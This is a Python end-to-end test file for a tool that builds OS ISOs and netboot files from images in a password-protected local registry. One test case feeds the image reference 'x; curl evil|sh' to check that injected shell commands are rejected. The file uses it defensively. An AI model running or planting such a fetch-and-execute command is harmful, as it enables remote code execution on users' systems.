#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The program as its users run it: a real docker-registry (TLS, password) on loopback, a small image,
an ISO. Usage: end_to_end_test.py PROGRAM [unittest arguments]"""
import contextlib
import hashlib
import json
import os
import pathlib
import resource
import signal
import subprocess
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "support"))
import registry_case  # noqa: E402
import test_image  # noqa: E402
from registry_case import UNPRIVILEGED  # noqa: E402


class EndToEnd(registry_case.RegistryCase):
    signed_in = False

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.layout = cls.base / "layout"
        test_image.write_layout(str(cls.layout), test_image.bootable_layers())
        cls.push("demo/image:1", test_image.bootable_layers())

    def manifest(self, password=None, image="demo/image:1", artifacts="    iso: true\n", more=""):
        file = self.work / "demo.yaml"
        file.write_text(
            json.dumps(self.login_secret(password)) + "\n---\n"
            "apiVersion: build.kairos.io/v1alpha2\nkind: OSArtifact\nmetadata: {name: demo}\nspec:\n"
            f"  image:\n    ref: {self.host}/{image}\n"
            "    imageCredentialsSecretRef: {name: login}\n"
            f"  artifacts:\n{artifacts}{more}")
        return file

    def digest(self, out=None):
        return hashlib.sha256(((out or self.out) / "demo.iso").read_bytes()).hexdigest()

    def test_a_private_image_becomes_an_iso_and_the_second_build_runs_nothing(self):
        first = self.build(self.manifest(), check=True)

        subprocess.run(["sha256sum", "-c", "--quiet", "demo.sha256"], cwd=self.out, check=True)
        self.assertIn(self.digest(), first.stdout)
        self.assertEqual({s["state"] for s in self.report()["stages"]}, {"done"})

        begin = time.monotonic()
        second = self.build(self.manifest(), check=True)
        self.assertEqual({s["state"] for s in self.report()["stages"]}, {"cached"})
        self.assertEqual(first.stdout, second.stdout)
        self.assertLess(time.monotonic() - begin, 5)

    def test_a_changed_cloud_config_makes_only_the_iso_again(self):
        def with_config(text):
            return self.manifest(
                artifacts="    iso: true\n    cloudConfigRef: {name: cc, key: user}\n",
                more="---\napiVersion: v1\nkind: Secret\nmetadata: {name: cc}\n"
                     f"stringData:\n  user: \"#cloud-config\\nhostname: {text}\\n\"\n")

        self.build(with_config("one"), check=True)
        result = self.build(with_config("two"), check=True)

        self.assertIn("only the cloud-config of", result.stderr)
        other = self.work / "anew"
        anew = self.build(with_config("two"), "--no-cache", out=other, check=True)
        self.assertNotIn("only the cloud-config of", anew.stderr)
        self.assertEqual(self.digest(), self.digest(other))

        states = {s["name"]: s["state"] for s in self.report()["stages"]}
        self.assertEqual(states, {"pull": "cached", "unpack": "cached", "squashfs": "cached",
                                  "iso": "done"})
        found = subprocess.run(["xorriso", "-osirrox", "on", "-indev", self.out / "demo.iso",
                                "-extract", "/config.yaml", self.work / "config.yaml"],
                               capture_output=True, timeout=60)
        self.assertEqual(found.returncode, 0, found.stderr)
        self.assertIn("hostname: two", (self.work / "config.yaml").read_text())

    def test_netboot_takes_what_the_iso_holds_and_one_squashfs_serves_both(self):
        self.build(self.manifest(
            artifacts="    iso: true\n    netboot: true\n    netbootURL: http://boot.test/os\n",
            more="  nameOverride: {netboot: net}\n"), check=True)

        subprocess.run(["sha256sum", "-c", "--quiet", "demo.sha256"], cwd=self.out, check=True)
        states = [s["name"] for s in self.report()["stages"]]
        self.assertEqual(states.count("squashfs"), 1)
        for inside, outside in {"/boot/kernel": "net-kernel", "/boot/initrd": "net-initrd",
                                "/rootfs.squashfs": "net.squashfs"}.items():
            copy = self.work / outside
            subprocess.run(["xorriso", "-osirrox", "on", "-indev", self.out / "demo.iso",
                            "-extract", inside, copy], check=True, capture_output=True, timeout=60)
            self.assertEqual(copy.read_bytes(), (self.out / outside).read_bytes(), outside)
        script = (self.out / "net.ipxe").read_text()
        self.assertTrue(script.startswith("#!ipxe\n"), script)
        self.assertIn("set base http://boot.test/os/\n", script)
        self.assertIn("root=live:${base}net.squashfs", script)

    def test_a_wrong_password_says_who_where_and_what_to_do(self):
        begin = time.monotonic()
        result = self.build(self.manifest(password="wrong-canary"))

        self.assertLess(time.monotonic() - begin, 5)
        self.assertEqual(result.returncode, 3)
        for words in (self.host, "'demo'", "secret 'login'", "try:"):
            self.assertIn(words, result.stderr)
        self.assertNotIn("wrong-canary", result.stderr)

    def test_mirrors_of_a_variable_are_asked_in_order(self):
        mirrors = f"hub.invalid=http://127.0.0.1:1 hub.invalid={self.host}/demo"

        result = self.program("pull", "hub.invalid/image:1", "--credentials", self.config,
                              check=True, OSARTIFACT_REGISTRY_MIRROR=mirrors)

        self.assertIn("the mirror 127.0.0.1:1", result.stderr)
        self.assertIn(f"hub.invalid/image comes from {self.host}/demo/image", result.stderr)
        self.assertIn("hub.invalid/image@sha256:", result.stdout)

    def test_an_unknown_field_is_refused_with_its_line(self):
        result = self.build(self.manifest(artifacts="    iso: true\n    grubConfg: x\n"))

        self.assertEqual(result.returncode, 2)
        self.assertRegex(result.stderr, r'demo\.yaml:\d+:5: error: .*unknown field "grubConfg"')
        self.assertIn('did you mean "grubConfig"?', result.stderr)
        self.assertFalse(self.store.exists())

    def test_a_file_that_is_not_there_is_no_image_of_docker_hub(self):
        for name in ("demo.iso", "./demo", "/nowhere/demo.gce.tar.gz"):
            result = self.program("inspect", name)

            self.assertEqual(result.returncode, 8)
            self.assertIn(f"there is no file {name}", result.stderr)

    def test_validate_looks_at_every_file(self):
        bad = self.work / "bad.yaml"
        bad.write_text(self.manifest().read_text().replace("iso: true", "isso: true"))

        result = self.program("validate", bad, self.manifest())

        self.assertEqual(result.returncode, 2)
        self.assertIn("demo.yaml: valid, 1 OSArtifact", result.stdout)
        self.assertIn("bad.yaml:", result.stderr)
        self.assertIn("error: 1 of 2 manifests are not valid", result.stderr)

    def test_case281_two_builds_of_one_output_do_not_mix_their_files(self):
        commands = [self.command(["build", self.manifest(), "-o", self.out, "--credentials",
                                  self.config], self.work / name) for name in ("one", "two")]
        builds = [subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                   text=True, env={"PATH": os.environ["PATH"]})
                  for command in commands]
        ends = [build.communicate(timeout=200) for build in builds]

        self.assertEqual([build.returncode for build in builds], [0, 0], ends)
        self.assertIn("waiting for another build of 'demo'", "".join(errors for _, errors in ends))
        subprocess.run(["sha256sum", "-c", "--quiet", "demo.sha256"], cwd=self.out, check=True)
        self.assertEqual({p.name for p in self.out.iterdir()},
                         {"demo.iso", "demo.sha256", "demo.report.json"})

    def test_a_volume_of_a_cluster_stops_the_build_before_it_starts(self):
        result = self.build(self.manifest(
            artifacts="    iso: true\n    overlayISOVolume: extra\n",
            more="  volumes: [{name: extra, persistentVolumeClaim: {claimName: c}}]\n"))

        self.assertEqual(result.returncode, 2)
        self.assertIn("volume 'extra' is a persistentVolumeClaim", result.stderr)
        self.assertIn("--volume extra=DIR", result.stderr)
        self.assertFalse(self.out.exists())

    def artifacts_into(self, volume, *flags):
        manifest = self.manifest(artifacts="    iso: true\n    volume: out\n",
                                 more=f"  volumes: [{{name: out, {volume}}}]\n")
        return self.program("build", manifest, "--credentials", self.config, *flags)

    def test_artifacts_go_into_the_volume_that_the_manifest_names(self):
        host, claim = self.work / "host", self.work / "claim"
        for folder, volume, flags in (
                (host, f"hostPath: {{path: {host}}}", []),
                (claim, "persistentVolumeClaim: {claimName: c}", ["--volume", f"out={claim}"])):
            folder.mkdir()
            result = self.artifacts_into(volume, *flags)

            self.assertEqual(result.returncode, 0, result.stderr)
            self.assertEqual({p.name for p in folder.iterdir()},
                             {"demo.iso", "demo.sha256", "demo.report.json"})
            self.assertIn(str(folder / "demo.iso"), result.stdout)

    def test_the_flag_for_the_output_goes_before_the_volume(self):
        result = self.artifacts_into("persistentVolumeClaim: {claimName: c}", "-o", self.out)

        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertTrue((self.out / "demo.iso").exists())

    def test_artifacts_do_not_go_into_a_volume_that_ends_with_the_build(self):
        for volume in ("emptyDir: {}", "configMap: {name: c, optional: true}"):
            result = self.artifacts_into(volume)

            self.assertEqual(result.returncode, 2)
            self.assertRegex(result.stderr, r"demo.yaml:\d+:\d+: spec.artifacts.volume: nothing in "
                                            r"volume 'out' would outlive this build")
            self.assertIn("--volume out=DIR", result.stderr)

    def test_artifacts_of_a_claim_without_a_folder_are_refused(self):
        result = self.artifacts_into("persistentVolumeClaim: {claimName: c}")

        self.assertEqual(result.returncode, 2)
        self.assertIn("--volume out=DIR", result.stderr)

    def test_an_altered_layer_is_named(self):
        layers = self.push("demo/altered:1", test_image.bootable_layers(os.urandom(64)))
        digest = layers[0].split(":")[1]
        blob = (self.base / "registry/storage/docker/registry/v2/blobs/sha256" / digest[:2] /
                digest / "data")
        data = bytearray(blob.read_bytes())
        data[len(data) // 2] ^= 1
        blob.write_bytes(data)

        result = self.build(self.manifest(image="demo/altered:1"))

        self.assertEqual(result.returncode, 7, result.stderr)
        self.assertIn(layers[0], result.stderr)
        self.assertFalse((self.out / "demo.iso").exists())

    def test_the_same_inputs_give_the_same_bytes_in_either_kind_of_snapshot(self):
        self.build(self.manifest(), check=True, SOURCE_DATE_EPOCH="1700000000")
        other = self.work / "other-out"
        result = self.build(self.manifest(), store=self.work / "other-store", out=other, check=True,
                            prefix=UNPRIVILEGED, SOURCE_DATE_EPOCH="1700000000")

        self.assertIn("layers go into one directory", result.stderr)
        self.assertEqual(self.digest(), self.digest(other))

    def test_case238_a_kill_loses_nothing(self):
        random = os.urandom(1 << 20)
        tars = test_image.bootable_layers()
        tars.insert(1, test_image.layer({f"data{i}": os.urandom(64) + random for i in range(64)}))
        self.push("demo/big:1", tars)
        manifest = self.manifest(image="demo/big:1")
        self.build(manifest, store=self.work / "reference", out=self.work / "reference-out",
                   check=True, SOURCE_DATE_EPOCH="1700000000")

        for delay in (0.1, 0.3, 0.6, 1.0):
            process = subprocess.Popen(self.command(["build", manifest, "-o", self.out], self.store),
                                       stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                       env={"PATH": os.environ["PATH"],
                                            "SOURCE_DATE_EPOCH": "1700000000"})
            time.sleep(delay)
            process.kill()
            process.wait()
            complete = {p.name for p in (self.store / "blobs/sha256").glob("*")}
        log = self.base / "registry/registry.log"
        before = log.stat().st_size
        self.build(manifest, check=True, SOURCE_DATE_EPOCH="1700000000")

        self.assertEqual(self.digest(), self.digest(self.work / "reference-out"))
        asked = log.read_text()[before:]
        for digest in complete:
            self.assertNotIn(f"GET /v2/demo/big/blobs/sha256:{digest}", asked)

    def test_case240_case283_a_termination_ends_in_time_and_leaves_nothing_half(self):
        process = subprocess.Popen(self.command(["build", self.manifest(), "-o", self.out],
                                                self.store), stderr=subprocess.PIPE,
                                   stdout=subprocess.DEVNULL, text=True,
                                   env={"PATH": os.environ["PATH"]})
        for line in process.stderr:
            if "squashfs" in line or "unpack" in line:
                break
        process.send_signal(signal.SIGTERM)
        begin = time.monotonic()
        rest = process.stderr.read()
        process.stderr.close()

        self.assertEqual(process.wait(timeout=20), 143, rest)
        self.assertLess(time.monotonic() - begin, 10)
        self.assertIn("stopped by SIGTERM", rest)
        self.assertEqual([p for p in self.work.rglob("*.partial")], [])
        self.assertNotIn(str(self.store), pathlib.Path("/proc/mounts").read_text())

    def test_no_secret_is_left_anywhere(self):
        result = self.build(self.manifest(), "--log-level", "debug", check=True)

        needles = [self.password.encode(), self.encode(self.password).encode()]
        texts = [result.stdout.encode(), result.stderr.encode()]
        texts += [p.read_bytes() for root in (self.out, self.store) for p in root.rglob("*")
                  if p.is_file() and not p.is_symlink()]
        for needle in needles:
            self.assertFalse(any(needle in text for text in texts))

    def test_other_tools_read_what_we_write(self):
        self.program("pull", f"{self.host}/demo/image:1", "--credentials", self.config, check=True)

        subprocess.run(["skopeo", "inspect", f"oci:{self.store}:{self.host}/demo/image:1"],
                       check=True, capture_output=True, timeout=60)
        raw = subprocess.run(["skopeo", "inspect", "--raw", "--authfile", self.config, "--cert-dir",
                              self.base / "registry/ca", f"docker://{self.host}/demo/image:1"],
                             check=True, capture_output=True, timeout=60).stdout
        ours = self.program("inspect", "--raw", f"oci:{self.layout}", check=True)
        self.assertEqual(raw.decode(), ours.stdout)

    def test_unpack_gives_the_merged_tree(self):
        root = self.work / "root"
        self.program("unpack", f"oci:{self.layout}", root, check=True)

        self.assertFalse((root / "etc/old").exists())
        self.assertEqual((root / "etc/new").read_text(), "new")
        self.assertEqual((root / "usr/bin/tool").stat().st_mode & 0o7777, 0o4755)
        self.assertEqual(os.readlink(root / "boot/vmlinuz"), "/boot/vmlinuz-6.1.0-1")

    def test_case236_a_store_too_small_is_told_of_with_numbers(self):
        self.push("demo/large:1", [test_image.layer({"data": os.urandom(8 << 20)})])
        self.store.mkdir()
        small = ["unshare", "--mount", "sh", "-c",
                 'mount -t tmpfs -o size=4m tmpfs "$0" && exec "$@"', self.store]

        result = self.program("pull", f"{self.host}/demo/large:1", "--credentials", self.config,
                              prefix=small)

        self.assertEqual(result.returncode, 8, result.stderr)
        self.assertRegex(result.stderr, r"its layers need 8\.0 MiB more, [0-9.]+ MiB are free")

    def test_what_is_not_there_is_an_error_of_the_registry(self):
        cases = {f"{self.host}/demo/none:1": (4, "demo/none"), "localhost:1/demo/image:1": (4, "localhost:1"),
                 "x; curl evil|sh": (2, "not an image reference")}
        for reference, (status, words) in cases.items():
            begin = time.monotonic()
            result = self.program("pull", reference, "--credentials", self.config)
            self.assertEqual(result.returncode, status, result.stderr)
            self.assertIn(words, result.stderr)
            self.assertLess(time.monotonic() - begin, 12)

    def test_an_image_archive_is_one_that_skopeo_reads(self):
        self.build(self.manifest(), "--image-archive", check=True)

        subprocess.run(["sha256sum", "-c", "--quiet", "demo.sha256"], cwd=self.out, check=True)
        found = subprocess.run(["skopeo", "inspect", f"docker-archive:{self.out / 'demo.tar'}"],
                               check=True, capture_output=True, timeout=60).stdout
        self.assertEqual(len(json.loads(found)["Layers"]), 3)

    def test_case217_overlays_releases_and_names_are_as_the_manifest_says(self):
        folder = self.work / "rootfs"
        (folder / "etc").mkdir(parents=True)
        (folder / "etc/laid-over").write_text("over")
        self.build(self.manifest(
            artifacts='    iso: true\n    grubConfig: "set timeout=7\\n"\n'
                      '    osRelease: "ID=ours\\n"\n    kairosRelease: "KAIROS_ID=x\\n"\n'
                      '    overlayISOVolume: extra\n    overlayRootfsVolume: more\n',
            more="  nameOverride: {iso: other}\n"
                 "  volumes: [{name: extra, configMap: {name: files}}, {name: more, persistentVolumeClaim: {claimName: c}}]\n"
                 "---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: files}\n"
                 "data: {hello.txt: hi}\n"), "--volume", f"more={folder}", check=True)

        out = self.work / "extracted"
        subprocess.run(["xorriso", "-osirrox", "on", "-indev", self.out / "other.iso", "-extract",
                        "/", out], check=True, capture_output=True, timeout=60)
        self.assertEqual((out / "hello.txt").read_text(), "hi")
        self.assertEqual((out / "boot/grub2/grub.cfg").read_text(), "set timeout=7\n")
        self.assertEqual((out / "config.yaml").read_text(), "")
        for path, text in {"etc/os-release": "ID=ours\n", "etc/kairos-release": "KAIROS_ID=x\n",
                           "etc/laid-over": "over", "etc/new": "new"}.items():
            found = subprocess.run(["unsquashfs", "-cat", out / "rootfs.squashfs", path],
                                   check=True, capture_output=True, timeout=60).stdout.decode()
            self.assertEqual(found, text, path)

    def test_case242_memory_does_not_grow_with_the_layer(self):
        layout = self.work / "layout"
        subprocess.run([sys.executable, test_image.__file__, layout, "1024"], check=True)
        self.program("push", f"oci:{layout}", f"{self.host}/demo/gigabyte:1", "--credentials",
                     self.config, store=self.work / "other", check=True)
        # By way of a small process: what a parent holds at the fork counts as the child's peak.
        measure = ("import resource, subprocess, sys\n"
                   "subprocess.run(sys.argv[1:], check=True, capture_output=True)\n"
                   "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")
        peak = subprocess.run(
            [sys.executable, "-c", measure, *self.command(
                ["unpack", f"{self.host}/demo/gigabyte:1", self.work / "root", "--credentials",
                 self.config], self.store)],
            check=True, capture_output=True, text=True, timeout=300).stdout

        self.assertLess(int(peak), 64 * 1024, "KiB resident")
        self.assertEqual((self.work / "root/big").stat().st_size, 1 << 30)

    def push_random(self, name, megabytes):
        """A bootable image with a layer that does not compress; gives the digests of its layers."""
        tars = test_image.bootable_layers()
        tars.insert(1, test_image.layer({"data": os.urandom(megabytes << 20)}))
        return self.push(f"{name}:1", tars)

    @contextlib.contextmanager
    def disk(self, size, options=""):
        """A file system of that size with room for a store and an output folder, and nothing else."""
        folder = self.work / "disk"
        folder.mkdir(exist_ok=True)
        subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}{options}", "tmpfs", folder],
                       check=True)
        try:
            yield folder
        finally:
            subprocess.run(["umount", folder], check=True)

    def build_on(self, disk, image, **keywords):
        return self.build(self.manifest(image=f"{image}:1"), store=disk / "store",
                          out=disk / "out", **keywords)

    def test_case236_a_build_too_large_for_the_disk_is_refused_before_the_download(self):
        layers = self.push_random("demo/large", 8)
        with self.disk("20m") as disk:
            result = self.build_on(disk, "demo/large")

        self.assertEqual(result.returncode, 8, result.stderr)
        self.assertRegex(result.stderr, r"needs at least [0-9.]+ MiB \([0-9.]+ MiB for layers, [0-9.]+ "
                                        r"MiB for the tree, [0-9.]+ MiB for the squashfs, [0-9.]+ MiB "
                                        r"for the ISO\), and [0-9.]+ MiB are free")
        asked = (self.base / "registry/registry.log").read_text()
        for digest in layers:
            self.assertNotIn(f"GET /v2/demo/large/blobs/{digest}", asked)

    def test_case243_a_build_needs_room_for_layers_tree_squashfs_and_iso_and_no_more(self):
        self.push_random("demo/peak", 24)
        for prefix in ((), UNPRIVILEGED):  # The ISO has 17 MiB to boot with, made in the store.
            with self.disk("128m") as disk, self.subTest(prefix=prefix):
                self.build_on(disk, "demo/peak", prefix=prefix, check=True)
                self.assertGreater((disk / "out/demo.iso").stat().st_size, 24 << 20)

    def test_case235_a_disk_that_runs_full_ends_the_build_and_leaves_nothing_half(self):
        self.push_random("demo/full", 16)
        for size, out in (("44m", self.out), ("58m", self.work / "disk/out")):
            with self.disk(size) as disk, self.subTest(size=size):
                result = self.build(self.manifest(image="demo/full:1"), store=disk / "store", out=out)
                self.assertEqual(result.returncode, 8, result.stderr)
                self.assertRegex(result.stderr, "No space left on device|exceeds free space")
                self.assertLessEqual({p.name for p in out.rglob("*")}, {"demo.report.json"})
                self.assertEqual(list((disk / "store/tmp").glob("session*")), [])

    def test_case235_a_disk_that_runs_full_ends_the_unpack_with_the_path(self):
        self.push_random("demo/full", 16)
        with self.disk("8m") as disk:
            result = self.program("unpack", f"{self.host}/demo/full:1", disk / "root",
                                  "--credentials", self.config)

        self.assertEqual(result.returncode, 8, result.stderr)
        self.assertRegex(result.stderr, r"data of layer 2 of 4 .*\n.*No space left on device")

    def test_case237_a_disk_that_cannot_be_written_is_told_of_at_once(self):
        begin = time.monotonic()
        with self.disk("8m", ",ro") as disk:
            pull = self.program("pull", f"{self.host}/demo/image:1", "--credentials", self.config,
                                store=disk / "store")
            build = self.build(self.manifest(), out=disk / "out")

        for result in (pull, build):
            self.assertEqual(result.returncode, 8, result.stderr)
            self.assertIn("Read-only file system", result.stderr)
        self.assertLess(time.monotonic() - begin, 10)

    def test_case247_what_is_there_is_replaced_whole_or_with_no_clobber_not_at_all(self):
        self.out.mkdir()
        iso, half = self.out / "demo.iso", self.out / "demo.iso.partial"
        iso.write_text("precious")
        half.write_text("of a run that was killed")

        refused = self.build(self.manifest(), "--no-clobber")
        self.assertEqual(refused.returncode, 2, refused.stderr)
        self.assertIn(f"will not replace {iso}", refused.stderr)
        self.assertEqual(iso.read_text(), "precious")
        with open(iso) as before:
            self.build(self.manifest(), check=True)
            self.assertEqual(before.read(), "precious", "another file has the name now")
        self.assertGreater(iso.stat().st_size, 1 << 20)
        self.assertFalse(half.exists())
        self.build(self.manifest(), "--no-clobber", check=True)  # All is there: nothing is replaced.

    def test_an_iso_and_its_netboot_files_are_written_from_one_squashfs(self):
        self.push_random("demo/once", 40)

        self.build(self.manifest(image="demo/once:1",
                                 artifacts="    iso: true\n    netboot: true\n"), check=True)

        written = self.report()["writtenBytes"]
        copies = 5  # Layer, tree, squashfs in the store; squashfs in the ISO and beside it.
        self.assertLess(written, (copies * 40 + 32) << 20)


if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (1024, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    registry_case.main()
